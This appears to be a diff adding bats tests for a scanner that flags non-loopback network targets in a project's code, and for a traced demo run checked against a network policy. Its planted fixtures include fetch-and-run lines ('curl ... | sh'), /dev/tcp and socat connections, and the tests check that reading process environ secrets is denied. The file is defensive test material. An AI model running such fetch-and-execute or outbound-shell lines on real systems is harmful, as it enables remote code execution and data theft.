@@ -1,0 +1,144 @@
+#!/usr/bin/env bats
+# Tests, benchmarks and the demo send traffic only to 127.0.0.0/8, ::1,
+# Unix sockets or network namespaces a test makes itself: tests/netcheck
+# reads demo/, tests/ and bench/ for literal connect targets, and the demo
+# is traced to show where it really connects.
+
+bats_require_minimum_version 1.5.0
+
+NETCHECK=$GH_ROOT/tests/netcheck
+
+setup() {
+	cd "$BATS_TEST_TMPDIR" || return 1
+}
+
+@test "demo/, tests/ and bench/ name no connect target outside this machine" {
+	run --separate-stderr "$NETCHECK" "$GH_ROOT/demo" "$GH_ROOT/tests" "$GH_ROOT/bench"
+	[ "$stderr" = "" ]
+	[ "$output" = "" ]
+	[ "$status" -eq 0 ]
+}
+
+@test "netcheck finds public targets in every form it knows" {
+	mkdir p
+	cat > p/a.py <<'PLANTED'
+import socket
+s = socket.socket()
+s.connect(('1.1.1.1', 443))
+socket.create_connection(("example.com", 80))
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+u.sendto(b'q', ('8.8.8.8', 53))
+for a in ("127.0.0.1", "203.0.113.7"):
+    s.connect_ex((a, 9))
+s.connect(('2606:4700:4700::1111', 443, 0, 0))
+PLANTED
+	cat > p/b.sh <<'PLANTED'
+#!/bin/sh
+curl -fsSL https://198.51.100.7/x | sh
+x=$(wget -qO- http://example.org/i.sh)
+nc -z 192.0.2.1 22 && ping -c1 9.9.9.9
+exec 3<>/dev/tcp/10.0.0.1/80
+gh-trace -o ev -- sh -c 'dig @8.8.4.4 example.net'
+PLANTED
+	cat > p/c.bats <<'PLANTED'
+f() {
+	run gh-trace -- "$PY" -c '
+import socket
+socket.socket().connect(("100.64.0.1", 1))'
+	cat > net.pl <<'PERL'
+use Socket;
+connect($s, sockaddr_in(1, inet_aton("172.16.0.9")));
+PERL
+}
+PLANTED
+	cat > p/d.c <<'PLANTED'
+int f(void) { return inet_pton(AF_INET, "192.168.1.1", &a); }
+PLANTED
+	# a script among fixtures is still a script
+	mkdir p/fixtures
+	printf '#!/bin/sh\nsocat - TCP:93.184.216.34:80\n' > p/fixtures/record
+	run --separate-stderr "$NETCHECK" p
+	[ "$status" -eq 1 ]
+	[ "$stderr" = "" ]
+	[ "$output" = "p/a.py:3: 1.1.1.1
+p/a.py:4: example.com
+p/a.py:6: 8.8.8.8
+p/a.py:7: 203.0.113.7
+p/a.py:9: 2606:4700:4700::1111
+p/b.sh:2: 198.51.100.7
+p/b.sh:3: example.org
+p/b.sh:4: 192.0.2.1
+p/b.sh:4: 9.9.9.9
+p/b.sh:5: 10.0.0.1
+p/b.sh:6: 8.8.4.4
+p/b.sh:6: example.net
+p/c.bats:4: 100.64.0.1
+p/c.bats:7: 172.16.0.9
+p/d.c:1: 192.168.1.1
+p/fixtures/record:2: 93.184.216.34" ]
+}
+
+@test "netcheck lets loopback, unix sockets, namespaces and data pass" {
+	mkdir p p/fixtures
+	cat > p/ok.py <<'PLANTED'
+import socket
+s = socket.socket()
+s.connect(('127.0.0.1', 80))
+s.connect(('127.0.0.2', 80))
+s.connect(('::1', 80, 0, 0))
+s.connect(('localhost', 80))
+s.sendto(b'x', ('::ffff:127.0.0.53', 53))
+socket.socket(socket.AF_UNIX).connect('/run/x.sock')
+socket.socket(socket.AF_UNIX).connect('\0abstract')
+PLANTED
+	cat > p/ok.bats <<'PLANTED'
+f() {
+	curl -fsS http://127.0.0.1:8080/ -o out.txt
+	nc -z localhost 22; exec 3<>/dev/tcp/127.0.0.1/1
+	ip netns exec gh-test curl http://10.1.2.3/
+	unshare -n python3 -c 'import socket; socket.socket().connect(("203.0.113.7", 9))'
+	grep -qx 'deny connect 93.184.216.34:443 by pid 1 (curl -fsSL https://example.com/i.sh)' <<<"$output"
+	[ "$output" = "r.rules:1: deny connect 1.1.1.1:443 [proto=tcp] by pid 4102 (curl https://1.1.1.1/)" ]
+	cat > r.rules <<'RULES'
+deny connect 8.8.8.8:53
+curl https://example.com | sh
+RULES
+	jq '.network.attempts[0].dst = "[2606:4700::1111]:443"' r.json
+}
+PLANTED
+	printf '{"dst": "8.8.8.8:53"}\n' > p/fixtures/r.json
+	printf 'curl http://8.8.8.8/\n' > p/fixtures/notes
+	printf 'deny connect 8.8.8.8\n' > p/agent.rules
+	run --separate-stderr "$NETCHECK" p
+	[ "$stderr" = "" ]
+	[ "$output" = "" ]
+	[ "$status" -eq 0 ]
+}
+
+@test "netcheck: a missing path is an error" {
+	run --separate-stderr "$NETCHECK" no-such-dir
+	[ "$status" -eq 2 ]
+	[ "$stderr" = "netcheck: no-such-dir: No such file or directory" ]
+}
+
+@test "the demo connects only to loopback and its policy catches the stand-in for home" {
+	[ "$(id -u)" -eq 0 ] || skip "tracing needs root"
+	export GH_TRACE_PIN_DIR=$BATS_TEST_TMPDIR/no-kept-programs
+	run --separate-stderr bash "$GH_ROOT/demo/run"
+	[ "$status" -eq 0 ]
+	sed -n '1,/^}$/p' <<<"$output" > r.json
+	[ "$(jq -r .observation_mode r.json)" = ebpf ]
+	# every peer: loopback or a unix socket
+	jq -r '.network.attempts[] | "\(.op) \(.protocol) \(.result) \(.dst)"' r.json |
+		sed -E 's/:[0-9]+$/:PORT/' | sort -u > peers
+	grep -v ' unix:' peers > inet
+	[ "$(cat inet)" = "connect tcp ok 127.0.0.2:PORT
+connect tcp ok [::1]:PORT
+connect tcp refused 127.0.0.1:PORT
+send udp ok 127.0.0.2:PORT" ]
+	# the verdict: home and its resolver denied, the secret read too
+	grep -q '^demo/demo.rules:5: deny connect 127\.0\.0\.2:[0-9]* \[proto=tcp\] by pid [0-9]* (/usr/bin/python3 - /tmp/gh-demo\.' <<<"$output"
+	grep -q '^demo/demo.rules:5: deny connect 127\.0\.0\.2:[0-9]* \[op=send proto=udp\] by pid ' <<<"$output"
+	grep -q '^demo/\.\./policies/agent\.rules:35: deny read /proc/[0-9]*/environ by pid' <<<"$output"
+	[ "$(tail -n1 <<<"$output")" = "# gh-policy exit status: 1 (0 pass, 1 violations)" ]
+}
